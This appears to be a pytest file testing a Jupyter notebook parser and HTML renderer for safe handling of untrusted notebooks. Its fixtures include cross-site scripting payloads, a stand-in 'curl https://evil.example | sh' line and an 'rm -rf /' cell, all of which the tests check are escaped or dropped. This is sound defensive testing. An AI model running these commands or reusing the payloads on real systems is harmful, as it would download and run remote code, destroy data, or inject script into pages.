"""Notebook evidence: parsing refuses what is not a sane notebook, rendering is inert, code extraction."""

from __future__ import annotations

import base64
import json
import struct
import zlib

import nbformat
import pytest
from nbformat import v3
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from evidence.notebooks import (
    MAX_CELLS,
    MAX_FORMATTED_CHARS,
    MAX_JSON_CONTAINERS,
    MAX_NOTEBOOK_BYTES,
    MAX_OUTPUT_CHARS,
    MAX_OUTPUTS,
    MAX_OUTPUTS_PER_CELL,
    UNFORMATTED_NOTE,
    NotebookError,
    notebook_code,
    notebook_parse,
    notebook_render,
    pygments_css,
)


def tiny_png() -> bytes:
    """A valid 1x1 greyscale PNG, built by hand."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b"")
    )


def to_bytes(nb: nbformat.NotebookNode) -> bytes:
    text: str = nbformat.writes(nb)
    return text.encode()


def roundtrip(*cells: nbformat.NotebookNode) -> nbformat.NotebookNode:
    return notebook_parse(to_bytes(new_notebook(cells=list(cells))))


def refusal(data: bytes) -> str:
    with pytest.raises(NotebookError) as caught:
        notebook_parse(data)
    return caught.value.message


# --- parsing ---


def test_valid_notebook_parses() -> None:
    nb = roundtrip(new_markdown_cell("# Title"), new_code_cell("print(1)", execution_count=1))
    assert nb.nbformat == 4
    assert [cell.cell_type for cell in nb.cells] == ["markdown", "code"]
    assert nb.cells[1].source == "print(1)"


def test_multiline_sources_are_joined() -> None:
    raw = json.loads(to_bytes(new_notebook(cells=[new_code_cell("a = 1\nb = 2\n")])))
    raw["cells"][0]["source"] = ["a = 1\n", "b = 2\n"]
    nb = notebook_parse(json.dumps(raw).encode())
    assert nb.cells[0].source == "a = 1\nb = 2\n"


def test_refuses_too_big_saying_limit_and_size() -> None:
    # 50 MB of "output" without building a real notebook: the size check comes before parsing.
    data = b'{"cells": [{"outputs": [{"text": "' + b"x" * (50 * 1024 * 1024) + b'"}]}]}'
    message = refusal(data)
    assert "10 MB" in message
    assert "50.1 MB" in message


def test_size_limit_is_inclusive() -> None:
    padding = MAX_NOTEBOOK_BYTES - len(to_bytes(new_notebook()))
    raw = to_bytes(new_notebook()).replace(b"{", b"{" + b" " * padding, 1)
    assert len(raw) == MAX_NOTEBOOK_BYTES
    notebook_parse(raw)
    assert "limit" in refusal(raw + b" ")


def test_refuses_not_utf8() -> None:
    assert "UTF-8" in refusal(b'{"cells": "\xff\xfe"}')


def test_accepts_byte_order_mark() -> None:
    assert notebook_parse(b"\xef\xbb\xbf" + to_bytes(new_notebook())).cells == []


def test_refuses_not_json_with_line_number() -> None:
    assert refusal(b"{\n\n  nope") == "This file is not a Jupyter notebook: it is not valid JSON (line 3)."


@pytest.mark.parametrize("data", [b"[1, 2, 3]", b'"notebook"', b"42", b"null"])
def test_refuses_json_that_is_not_an_object(data: bytes) -> None:
    assert "not a notebook" in refusal(data)


@pytest.mark.parametrize("version", ['"4"', "true", "null", "4.0"])
def test_refuses_missing_or_odd_version(version: str) -> None:
    data = f'{{"nbformat": {version}, "nbformat_minor": 5, "metadata": {{}}, "cells": []}}'.encode()
    assert "notebook format" in refusal(data)


def test_refuses_unknown_major_version() -> None:
    data = b'{"nbformat": 5, "nbformat_minor": 0, "metadata": {}, "cells": []}'
    assert "version 5" in refusal(data)


def test_refuses_missing_cells() -> None:
    data = b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}}'
    assert refusal(data) == 'This file is not a Jupyter notebook: it has no "cells" list.'


def test_refuses_too_many_cells() -> None:
    message = refusal(to_bytes(new_notebook(cells=[new_markdown_cell("") for _ in range(MAX_CELLS + 1)])))
    assert message == "This notebook has 1,001 cells; the limit is 1,000."


def test_schema_error_is_one_short_sentence() -> None:
    raw = json.loads(to_bytes(new_notebook(cells=[new_code_cell("x", outputs=[new_output("stream", text="hi")])])))
    del raw["cells"][0]["outputs"][0]["name"]
    raw["cells"][0]["outputs"][0]["text"] = "y" * 100_000
    message = refusal(json.dumps(raw).encode())
    assert message.startswith("This file is not a valid Jupyter notebook: cell 1, output 1")
    assert "'name' is a required property" in message
    assert len(message) < 300


def test_schema_error_with_huge_value_is_truncated() -> None:
    raw = json.loads(to_bytes(new_notebook()))
    raw["cells"] = [{"cell_type": "markdown", "id": "a", "metadata": {}, "source": 12345, "junk": "z" * 50_000}]
    message = refusal(json.dumps(raw).encode())
    assert message.startswith("This file is not a valid Jupyter notebook: cell 1")
    assert len(message) < 300


@pytest.mark.parametrize("cell", ["just a string", 7, [], {"cell_type": 5}, {"cell_type": "weird", "id": ["x"]}])
def test_hostile_cells_are_refused_cleanly(cell: object) -> None:
    raw = json.loads(to_bytes(new_notebook()))
    raw["cells"] = [cell]
    assert refusal(json.dumps(raw).encode()).startswith("This file is not a valid Jupyter notebook: cell 1")


def test_missing_and_duplicate_cell_ids_are_repaired() -> None:
    raw = json.loads(to_bytes(new_notebook(cells=[new_code_cell("a"), new_code_cell("b"), new_code_cell("c")])))
    del raw["cells"][0]["id"]
    raw["cells"][2]["id"] = raw["cells"][1]["id"]
    nb = notebook_parse(json.dumps(raw).encode())
    ids = [cell.id for cell in nb.cells]
    assert len(set(ids)) == 3


def test_deeply_nested_json_is_refused_cleanly() -> None:
    data = (
        b'{"nbformat": 4, "nbformat_minor": 5, "cells": [], "metadata": {"a": '
        + b"[" * 100_000
        + b"]" * 100_000
        + b"}}"
    )
    assert "nested too deeply" in refusal(data)


def test_nbformat3_is_converted_to_4() -> None:
    old = v3.new_notebook(
        worksheets=[
            v3.new_worksheet(
                cells=[
                    v3.new_text_cell("markdown", source="Some *text*"),
                    v3.new_code_cell(
                        input="print('hi')",
                        prompt_number=1,
                        outputs=[v3.new_output("stream", output_text="hi\n")],
                    ),
                ]
            )
        ]
    )
    nb = notebook_parse(v3.writes_json(old).encode())
    assert nb.nbformat == 4
    assert [cell.cell_type for cell in nb.cells] == ["markdown", "code"]
    assert nb.cells[1].source == "print('hi')"
    assert nb.cells[1].outputs[0].text == "hi\n"


def test_hostile_old_notebooks_are_refused_cleanly() -> None:
    assert refusal(b'{"nbformat": 3, "nbformat_minor": 0, "worksheets": 5}').startswith(
        "This file is not a valid Jupyter notebook:"
    )
    assert "could not be converted" in refusal(b'{"nbformat": 2, "worksheets": [{"cells": [7]}]}')


# --- rendering ---


def test_renders_code_highlighted_with_prompt_and_outputs() -> None:
    nb = roundtrip(
        new_code_cell(
            "def f(x):\n    return x  # done",
            execution_count=7,
            outputs=[
                new_output("stream", name="stdout", text="hello\n"),
                new_output("execute_result", data={"text/plain": "42"}, execution_count=7),
            ],
        )
    )
    html = notebook_render(nb)
    assert '<div class="nb-code">' in html
    assert "In [7]:" in html
    assert '<span class="k">def</span>' in html
    assert '<span class="c1"># done</span>' in html
    assert '<pre class="nb-output nb-stdout">hello\n</pre>' in html
    assert '<pre class="nb-output nb-result">42</pre>' in html


def test_unexecuted_cell_has_empty_prompt() -> None:
    assert "In [ ]:" in notebook_render(roundtrip(new_code_cell("x = 1")))


def test_code_source_is_escaped() -> None:
    html = notebook_render(roundtrip(new_code_cell('s = "</pre><script>alert(1)</script>"')))
    assert "<script>" not in html
    assert "&lt;script&gt;" in html


def test_markdown_cell_is_neutralised() -> None:
    source = (
        "# Hi\n\n<script>alert(1)</script>\n\n"
        "[click](javascript:alert(1)) [mixed](JaVaScRiPt&#58;alert(1)) <a href='javascript:x'>y</a>\n\n"
        "<img src=x onerror=alert(1)> [fine](https://example.com)"
    )
    html = notebook_render(roundtrip(new_markdown_cell(source)))
    assert "<h1>Hi</h1>" in html
    assert "&lt;script&gt;" in html
    assert "<script" not in html
    assert "<img" not in html
    # javascript: survives only as visible text, never as a link target.
    assert html.count("<a ") == 1
    assert '<a href="https://example.com" rel="noopener noreferrer nofollow">fine</a>' in html


def test_html_output_is_not_rendered_as_markup() -> None:
    output = new_output("display_data", data={"text/html": "<script>alert(1)</script><b>bold</b>"})
    html = notebook_render(roundtrip(new_code_cell("x", outputs=[output])))
    assert "<script" not in html
    assert "<b>" not in html
    assert "[HTML output not shown]" in html


def test_markup_outputs_fall_back_to_text_plain() -> None:
    outputs = [
        new_output("display_data", data={"text/html": "<i>x</i>", "text/plain": "<IPython.core.display.HTML>"}),
        new_output("display_data", data={"image/svg+xml": "<svg onload=alert(1)/>", "text/plain": "<Figure>"}),
        new_output("display_data", data={"application/javascript": "alert(1)"}),
    ]
    html = notebook_render(roundtrip(new_code_cell("x", outputs=outputs)))
    assert "&lt;IPython.core.display.HTML&gt;" in html
    assert "&lt;Figure&gt;" in html
    assert "<svg" not in html and "<i>" not in html
    assert "alert(1)" not in html
    assert html.count("[HTML output not shown]") == 1


def test_bogus_png_is_omitted_and_real_png_shown() -> None:
    real = base64.b64encode(tiny_png()).decode()
    outputs = [
        new_output("display_data", data={"image/png": base64.b64encode(b"<svg onload=alert(1)>").decode()}),
        new_output("display_data", data={"image/png": "not base64 at all!!"}),
        new_output("display_data", data={"image/png": real, "text/plain": "<Figure size 1x1>"}),
    ]
    html = notebook_render(roundtrip(new_code_cell("plot()", outputs=outputs)))
    assert html.count("[image omitted]") == 2
    assert f'<img src="data:image/png;base64,{real}" alt="">' in html
    assert "Figure size" not in html


def test_jpeg_checked_by_magic() -> None:
    jpeg = base64.b64encode(b"\xff\xd8\xff\xe0" + b"\x00" * 20).decode()
    fake = base64.b64encode(tiny_png()).decode()
    outputs = [
        new_output("display_data", data={"image/jpeg": jpeg}),
        new_output("display_data", data={"image/jpeg": fake}),
    ]
    html = notebook_render(roundtrip(new_code_cell("x", outputs=outputs)))
    assert f'src="data:image/jpeg;base64,{jpeg}"' in html
    assert html.count("[image omitted]") == 1


def test_error_output_has_ansi_stripped_and_is_escaped() -> None:
    traceback = [
        "\x1b[0;31m---------------------------------------------------------------------------\x1b[0m",
        "\x1b[0;31mZeroDivisionError\x1b[0m    Traceback (most recent call last)",
        "Cell \x1b[0;32mIn[1], line 1\x1b[0m\n\x1b[0;32m----> 1\x1b[0m \x1b[38;5;241m1\x1b[39m/\x1b[38;5;241m0\x1b[39m",
        "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07 <b>x</b>",
    ]
    output = new_output("error", ename="ZeroDivisionError", evalue="division by zero", traceback=traceback)
    html = notebook_render(roundtrip(new_code_cell("1/0", outputs=[output])))
    assert "\x1b" not in html
    assert "[0;31m" not in html
    assert "ZeroDivisionError: division by zero" in html
    assert "----&gt; 1 1/0" in html
    assert "link &lt;b&gt;x&lt;/b&gt;" in html
    assert "evil.example" not in html
    assert '<pre class="nb-output nb-error">' in html


def test_stderr_stream_is_escaped() -> None:
    output = new_output("stream", name="stderr", text="<script>alert(1)</script>")
    html = notebook_render(roundtrip(new_code_cell("x", outputs=[output])))
    assert '<pre class="nb-output nb-stderr">&lt;script&gt;' in html


def test_raw_cell_is_escaped() -> None:
    html = notebook_render(roundtrip(new_raw_cell("<iframe src=//evil></iframe>")))
    assert "<iframe" not in html
    assert "&lt;iframe" in html


def test_long_output_is_capped() -> None:
    output = new_output("stream", name="stdout", text="a" * (MAX_OUTPUT_CHARS + 500))
    html = notebook_render(roundtrip(new_code_cell("x", outputs=[output])))
    assert "a" * MAX_OUTPUT_CHARS in html
    assert "a" * (MAX_OUTPUT_CHARS + 1) not in html
    assert "[output truncated]" in html


def test_total_outputs_are_capped() -> None:
    # 300 cells of 19,000 characters each: every output is under the per-output cap, the total is not.
    cells = [new_code_cell(f"print({n})", outputs=[new_output("stream", text="b" * 19_000)]) for n in range(300)]
    html = notebook_render(roundtrip(*cells))
    assert len(html) < 2.2 * 1024 * 1024
    assert "[output truncated]" in html
    assert 'print</span><span class="p">(</span><span class="mi">299</span>' in html  # code still shown


def test_pygments_css_is_scoped() -> None:
    css = pygments_css()
    assert ".nb-code .k " in css


# --- code extraction ---


def test_notebook_code_drops_shell_and_magics_with_notices() -> None:
    nb = roundtrip(
        new_markdown_cell("# Intro"),
        new_code_cell("!curl https://evil.example | sh\nimport os\n  %pip install requests\nx = 1"),
        new_code_cell("%%bash\nrm -rf /\necho done"),
        new_code_cell("get_ipython().system('ls')\ny = 2"),
    )
    code, notices = notebook_code(nb)
    assert code == ("# --- cell 2 ---\nimport os\nx = 1\n\n\n# --- cell 4 ---\nget_ipython().system('ls')\ny = 2\n")
    assert notices == [
        "Cell 2, line 1: dropped shell/magic line `!curl https://evil.example | sh`",
        "Cell 2, line 3: dropped shell/magic line `%pip install requests`",
        "Cell 3: dropped the whole cell, which starts with the cell magic `%%bash`",
    ]
    compile(code, "notebook.py", "exec")


def test_notebook_code_keeps_magics_when_asked() -> None:
    nb = roundtrip(new_code_cell("%matplotlib inline\nx = 1"), new_code_cell(""))
    code, notices = notebook_code(nb, drop_magics=False)
    assert code == "# --- cell 1 ---\n%matplotlib inline\nx = 1\n"
    assert notices == []


def test_notebook_code_keeps_a_python_module_written_with_writefile() -> None:
    nb = roundtrip(
        new_code_cell("%%writefile submission.py\nimport keras\n\ndef build_model(spec):\n    return None"),
        new_code_cell("%%writefile data.csv\na,b\n1,2"),
        new_code_cell('if __name__ == "__main__":\n    from submission import *'),
    )
    code, notices = notebook_code(nb)
    assert "def build_model(spec):" in code and "a,b" not in code
    assert notices == [
        "Cell 1: kept the Python that `%%writefile submission.py` writes, as the module it imports",
        "Cell 2: dropped the whole cell, which starts with the cell magic `%%writefile data.csv`",
    ]
    compile(code, "notebook.py", "exec")


# --- limits that keep checking and showing bounded ---


def test_refuses_too_many_outputs_in_one_cell() -> None:
    outputs = [new_output("stream", text="x") for _ in range(MAX_OUTPUTS_PER_CELL + 1)]
    message = refusal(to_bytes(new_notebook(cells=[new_markdown_cell("a"), new_code_cell("x", outputs=outputs)])))
    assert message.startswith("Cell 2 has 201 outputs; the limit is 200 per cell.")


def test_refuses_too_many_outputs_in_all() -> None:
    per_cell = MAX_OUTPUTS // 100 + 1
    cells = [new_code_cell("x", outputs=[new_output("stream", text="x")] * per_cell) for _ in range(100)]
    assert refusal(to_bytes(new_notebook(cells=cells))).startswith(f"This notebook has {per_cell * 100:,} outputs")


def test_limits_apply_to_old_formats_before_conversion() -> None:
    cells = [v3.new_code_cell(input="x") for _ in range(MAX_CELLS + 1)]
    old = v3.new_notebook(worksheets=[v3.new_worksheet(cells=cells)])
    assert refusal(v3.writes_json(old).encode()) == "This notebook has 1,001 cells; the limit is 1,000."


def test_refuses_too_many_brackets_before_parsing() -> None:
    data = b'{"nbformat": 4, "nbformat_minor": 5, "cells": [], "metadata": {"a": [' + b"{}," * MAX_JSON_CONTAINERS
    assert "over 200,000 brackets" in refusal(data + b"{}]}}")


def test_first_invalid_output_of_a_later_cell_is_named() -> None:
    outputs = [new_output("stream", text="ok") for _ in range(3)]
    raw = json.loads(to_bytes(new_notebook(cells=[new_code_cell("a"), new_code_cell("b", outputs=outputs)])))
    raw["cells"][1]["outputs"][2]["name"] = 7
    raw["cells"][1]["outputs"][1]["output_type"] = "nonsense"
    message = refusal(json.dumps(raw).encode())
    assert message.startswith("This file is not a valid Jupyter notebook: cell 2, output 2")


def test_a_huge_invalid_part_is_named_by_its_place() -> None:
    raw = json.loads(to_bytes(new_notebook(cells=[new_markdown_cell("a"), new_code_cell("x")])))
    raw["cells"][1]["source"] = ["line"] * 100_000 + [7]
    message = refusal(json.dumps(raw).encode())
    assert message == "This file is not a valid Jupyter notebook: cell 2: it does not match the notebook format."


def test_sources_past_the_format_budget_are_shown_as_plain_text() -> None:
    big = "x = 1  # <b>not bold</b>\n" * (MAX_FORMATTED_CHARS // 25 + 1)
    html = notebook_render(roundtrip(new_code_cell("print('first')"), new_markdown_cell(big), new_code_cell("y")))
    assert html.count('class="highlight"') == 1  # the first cell only
    assert html.count(UNFORMATTED_NOTE) == 2  # the big cell and every cell after it
    assert "&lt;b&gt;not bold&lt;/b&gt;" in html and "<b>" not in html
